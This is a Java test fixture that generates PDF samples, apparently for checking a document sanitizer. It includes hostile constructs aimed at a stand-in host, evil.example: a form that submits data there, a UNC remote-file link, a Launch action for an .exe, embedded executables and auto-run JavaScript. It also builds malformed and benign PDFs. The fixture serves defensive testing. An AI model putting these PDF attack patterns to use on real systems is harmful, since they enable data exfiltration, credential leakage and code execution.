package org.tenderpoint.platform.document;

import java.awt.Color;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.PDResources;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.font.PDFont;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts.FontName;
import org.apache.pdfbox.pdmodel.graphics.image.JPEGFactory;
import org.apache.pdfbox.pdmodel.graphics.image.LosslessFactory;
import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;
import org.apache.pdfbox.pdmodel.interactive.form.PDTextField;

/** PDFs as doctors, and as attackers, send them. */
final class Papers {

    /** Stands in whatever must not be kept. */
    static final String EVIL = "evil.example";

    private static final String JS = "<< /S /JavaScript /JS (app.alert\\('" + EVIL + "'\\)) >>";

    private Papers() {}

    /** With a page that says "Letter", and in each something else that does something or brings something along. */
    static Map<String, byte[]> active() {
        var all = new LinkedHashMap<String, byte[]>();
        all.put("a link to JavaScript", page(link("<< /S /URI /URI (javascript:" + EVIL + ") >>")));
        all.put("a button that sends", page(widget("/FT /Btn /A << /S /SubmitForm /F (http://" + EVIL + ") >>")));
        all.put("a path to another machine",
                page(link("<< /S /GoToR /D [0 /Fit] /F << /Type /Filespec /F (\\\\\\\\" + EVIL + "\\\\x.pdf) >> >>")));
        all.put("actions of the file", catalog("/AA << /WC " + JS + " /WS " + JS + " >>"));
        all.put("actions of the page", page("/AA << /O " + JS + " /C " + JS + " >>"));
        all.put("a link that starts a program", page(link("<< /S /Launch /F (" + EVIL + ".exe) >>")));
        all.put("a link that runs a script", page(link(JS)));
        all.put("attached files", catalog("/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (" + EVIL
                + ".exe) /EF << /F 8 0 R >> >>] >> >> /AF [<< /Type /Filespec /F (" + EVIL
                + ") /EF << /F 8 0 R >> >>]"));
        all.put("scripts of a form", catalog("/AcroForm << /Fields [<< /T (a) /FT /Tx /Kids [] /AA << /K " + JS
                + " /F " + JS + " /V " + JS + " /C " + JS + " >> >>] /CO [] >>"));
        all.put("a film with a program", page("/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9]"
                + " /RichMediaContent << /Assets << /Names [(" + EVIL + ") << /EF << /F 8 0 R >> >>] >> >>"
                + " /RichMediaSettings << /Activation << /Condition /PO >> >> >>]"));
        all.put("a script at the beginning", catalog("/OpenAction " + JS));
        all.put("scripts by name", catalog("/Names << /JavaScript << /Names [(a) " + JS + "] >> >>"));
        all.put("a file behind a note", page("/Annots [<< /Type /Annot /Subtype /FileAttachment /F 32 /Rect [0 0 9 9]"
                + " /FS << /Type /Filespec /F (" + EVIL + ") /EF << /F 8 0 R >> >> >>]"));
        all.put("an outline that acts", catalog("/Outlines << /First << /Title (" + EVIL + ") /A " + JS + " >> >>"));
        all.put("a sound, a screen, a film, a model", page("/Annots ["
                + "<< /Subtype /Sound /Rect [0 0 9 9] /Sound 8 0 R >> << /Subtype /Screen /Rect [0 0 9 9] /A << /S"
                + " /Rendition /JS (" + EVIL + ") >> >> << /Subtype /Movie /Rect [0 0 9 9] /Movie << /F (" + EVIL
                + ") >> >> << /Subtype /3D /Rect [0 0 9 9] /3DD << /OnInstantiate 8 0 R >> >>]"));
        all.put("a page of another file", page("/Resources << /XObject << /X << >> /Y 9 0 R >> >>"));
        all.put("what programs keep for themselves", page("/PieceInfo << /X << /Private (" + EVIL
                + ") >> >> /Metadata 8 0 R /B [<< /T (" + EVIL + ") >>]"));
        all.put("a next step", page(link("<< /S /Named /N /NextPage /Next [" + JS + "] >>")));
        return all;
    }

    /** Files whose pages are not what they are about. */
    static Map<String, byte[]> notOnTheirPages() {
        var all = new LinkedHashMap<String, byte[]>();
        all.put("a form of XFA", catalog("/AcroForm << /Fields [] /XFA [(template) 8 0 R] >> /NeedsRendering true"));
        all.put("a portfolio", catalog("/Collection << /Type /Collection /View /D >>"));
        all.put("a field that shows nothing of what it says", page(widget("/FT /Tx /T (a) /V (no massage)")));
        return all;
    }

    private static String link(String action) {
        return "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /Border [0 0 0] /A " + action
                + " /PA " + action + " /AA << /E " + action + " >> >>]";
    }

    private static String widget(String entries) {
        return "/Annots [<< /Type /Annot /Subtype /Widget /Rect [0 0 200 20] " + entries + " >>]";
    }

    private static byte[] page(String entries) {
        return letter("", entries);
    }

    private static byte[] catalog(String entries) {
        return letter(entries, "");
    }

    private static byte[] letter(String catalog, String page) {
        var resources = page.contains("/Resources") ? "" : "/Resources << /Font << /F1 5 0 R >> >>";
        return written(List.of(
                text("<< /Type /Catalog /Pages 2 0 R " + catalog + " >>"),
                text("<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
                text("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R " + resources + " " + page
                        + " >>"),
                stream("", text("BT /F1 24 Tf 40 100 Td (Letter) Tj ET")),
                text("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"),
                text("null"), text("null"),
                stream("/Type /EmbeddedFile", text(EVIL)),
                stream("/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (" + EVIL
                        + ") /Page 0 >> /OPI << /F (" + EVIL + ") >> /PieceInfo << /X (" + EVIL + ") >>",
                        text("0 0 5 5 re f"))),
                "");
    }

    static byte[] stream(String entries, byte[] content) {
        return Files.joined(text("<< /Length " + content.length + " " + entries + " >>\nstream\n"), content,
                text("\nendstream"));
    }

    /** A file of these objects, the first of which is the catalog. */
    static byte[] written(List<byte[]> objects, String trailer) {
        var file = new ByteArrayOutputStream();
        file.writeBytes(text("%PDF-1.7\n"));
        return ended(file, places(objects, file), trailer);
    }

    private static byte[] ended(ByteArrayOutputStream file, List<Integer> places, String trailer) {
        int table = file.size();
        file.writeBytes(text("xref\n0 " + (places.size() + 1) + "\n0000000000 65535 f \n"));
        places.forEach(place -> file.writeBytes(text("%010d 00000 n \n".formatted(place))));
        file.writeBytes(text("trailer\n<< /Size " + (places.size() + 1) + " /Root 1 0 R " + trailer
                + " >>\nstartxref\n" + table + "\n%%EOF\n"));
        return file.toByteArray();
    }

    private static List<Integer> places(List<byte[]> objects, ByteArrayOutputStream file) {
        var places = new ArrayList<Integer>();
        for (int i = 0; i < objects.size(); i++) {
            places.add(file.size());
            file.writeBytes(Files.joined(text((i + 1) + " 0 obj\n"), objects.get(i), text("\nendobj\n")));
        }
        return places;
    }

    /** A page with drawings, each of which begins in the one before and is as long. */
    static byte[] overlapping(int drawings, int length) {
        var file = new ByteArrayOutputStream();
        file.writeBytes(text("%PDF-1.7\n"));
        var used = new StringBuilder();
        for (int i = 0; i < drawings; i++) {
            used.append("/X%d %d 0 R ".formatted(i, 4 + i));
        }
        var places = places(List.of(
                text("<< /Type /Catalog /Pages 2 0 R >>"), text("<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
                text("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Resources << /XObject << " + used
                        + ">> >> >>")),
                file);
        int head = 100;
        for (int i = 0; i < drawings; i++) {
            places.add(file.size());
            var words = "%d 0 obj\n<< /Subtype /Form /BBox [0 0 9 9] /Length %d >>\nstream\n"
                    .formatted(4 + i, length - i * head);
            file.writeBytes(text(words + " ".repeat(head - words.length())));
        }
        // after the words of the last one its content, and with it that of all
        file.writeBytes(text(" ".repeat(length - (drawings - 1) * head)));
        file.writeBytes(text("\nendstream\nendobj\n"));
        return ended(file, places, "");
    }

    /** A file whose table of contents is this stream. */
    static byte[] withTable(byte[] table) {
        var file = new ByteArrayOutputStream();
        file.writeBytes(text("%PDF-1.7\n"));
        places(List.of(
                text("<< /Type /Catalog /Pages 2 0 R >>"),
                text("<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
                text("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] >>")), file);
        int at = file.size();
        file.writeBytes(Files.joined(text("4 0 obj\n"), table, text("\nendobj\nstartxref\n" + at + "\n%%EOF\n")));
        return file.toByteArray();
    }

    /** As programs write letters, scanners pictures, and people fill in forms. */
    static Map<String, byte[]> ordinary() {
        var all = new LinkedHashMap<String, byte[]>();
        all.put("a letter", made((paper, page, pen) -> {
            words(pen, new PDType1Font(FontName.TIMES_ROMAN), "No deep pressure for six weeks. J\u00fcrgen Sommer");
            pen.setStrokingColor(Color.BLUE);
            pen.addRect(50, 50, 200, 100);
            pen.stroke();
        }));
        all.put("a scanned letter", made((paper, page, pen) -> pen.drawImage(
                JPEGFactory.createFromByteArray(paper, Files.picture("jpeg", 600, 800)), 0, 0, 400, 500)));
        all.put("a picture that one sees through", made((paper, page, pen) -> {
            words(pen, new PDType1Font(FontName.COURIER), "behind");
            pen.drawImage(LosslessFactory.createFromImage(paper, Files.halfSeen()), 40, 380, 200, 40);
        }));
        all.put("a page on its side", made((paper, page, pen) -> {
            page.setRotation(90);
            page.setCropBox(new PDRectangle(20, 20, 300, 450));
            words(pen, new PDType1Font(FontName.HELVETICA_BOLD), "On its side");
        }));
        all.put("a form that was filled in", filledIn());
        all.put("a stamp", withLooks("/Subtype /Stamp /Rect [100 20 200 120]", "/Matrix [0 1 -1 0 0 0]"));
        all.put("a stamp that is hidden", withLooks("/Subtype /Stamp /F 2 /Rect [100 20 200 120]", ""));
        all.put("a layer that is not shown", layered());
        return all;
    }

    private interface Drawing {
        void on(PDDocument paper, PDPage page, PDPageContentStream pen) throws IOException;
    }

    private static byte[] made(Drawing drawing) {
        try (var paper = new PDDocument()) {
            var page = new PDPage(new PDRectangle(400, 500));
            paper.addPage(page);
            try (var pen = new PDPageContentStream(paper, page)) {
                drawing.on(paper, page, pen);
            }
            return saved(paper);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static void words(PDPageContentStream pen, PDFont font, String words) throws IOException {
        pen.beginText();
        pen.setFont(font, 14);
        pen.newLineAtOffset(50, 400);
        pen.showText(words);
        pen.endText();
    }

    private static byte[] filledIn() {
        return made((paper, page, pen) -> {
            var form = new PDAcroForm(paper);
            paper.getDocumentCatalog().setAcroForm(form);
            var resources = new PDResources();
            resources.add(new PDType1Font(FontName.HELVETICA));
            resources.put(org.apache.pdfbox.cos.COSName.getPDFName("Helv"), new PDType1Font(FontName.HELVETICA));
            form.setDefaultResources(resources);
            var field = new PDTextField(form);
            field.setPartialName("clearance");
            field.setDefaultAppearance("/Helv 12 Tf 0 g");
            form.getFields().add(field);
            var place = field.getWidgets().getFirst();
            place.setRectangle(new PDRectangle(50, 200, 200, 30));
            place.setPage(page);
            place.setPrinted(true);
            page.getAnnotations().add(place);
            field.setValue("No massage before May");
        });
    }

    private static byte[] withLooks(String note, String looks) {
        return written(List.of(
                text("<< /Type /Catalog /Pages 2 0 R >>"),
                text("<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 300 200] >>"),
                text("<< /Type /Page /Parent 2 0 R /Contents [4 0 R 4 0 R] /Annots [<< /Type /Annot " + note
                        + " /AP << /N 5 0 R >> >>] >>"),
                stream("", text("2 0 0 2 0 0 cm 1 0 0 rg 10 10 20 20 re f\n")),
                stream("/Subtype /Form /BBox [0 0 50 100] " + looks, text("0 0 1 rg 0 0 50 50 re f"))),
                "");
    }

    private static byte[] layered() {
        return written(List.of(
                text("<< /Type /Catalog /Pages 2 0 R /OCProperties << /OCGs [5 0 R 6 0 R] /D << /OFF [6 0 R] /AS"
                        + " [<< /Event /View /OCGs [5 0 R] /Category [/View] >>] >> >> >>"),
                text("<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 300 200] >>"),
                text("<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources << /Properties << /L1 5 0 R /L2 6 0 R >>"
                        + " >> >>"),
                stream("", text("/OC /L1 BDC 1 0 0 rg 10 10 50 50 re f EMC /OC /L2 BDC 0 1 0 rg 80 10 50 50 re f EMC")),
                text("<< /Type /OCG /Name (shown) >>"), text("<< /Type /OCG /Name (not shown) >>")), "");
    }

    static byte[] text(String words) {
        return words.getBytes(StandardCharsets.ISO_8859_1);
    }

    private static byte[] saved(PDDocument paper) throws IOException {
        var file = new ByteArrayOutputStream();
        paper.save(file);
        return file.toByteArray();
    }
}
